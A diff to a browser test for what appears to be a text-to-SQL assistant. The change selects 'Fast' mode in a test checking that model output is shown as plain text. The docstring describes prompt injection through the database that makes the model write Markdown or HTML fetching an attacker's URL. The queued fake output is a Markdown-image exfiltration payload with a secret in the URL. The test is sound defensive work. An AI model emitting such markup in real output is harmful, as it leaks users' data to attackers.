@@ -130,6 +130,7 @@ def test_model_output_and_errors_show_as_text_never_as_images_or_html(page, fake
     """A prompt injected through the database can make the model write Markdown or HTML that
     would fetch an attacker's URL; the note and the status show it as text."""
     fake_models.enqueue("Sure! ![leak](http://127.0.0.1:9/leak.png?secret=1) <img src=x id=evil>")
+    page.locator("#mode").get_by_label("Fast").check()  # auto would try other candidates
     page.locator("#question textarea").fill("List the products")
     page.locator("#generate").click()
     page.locator("#note").get_by_text("did not write a SQL query").wait_for()
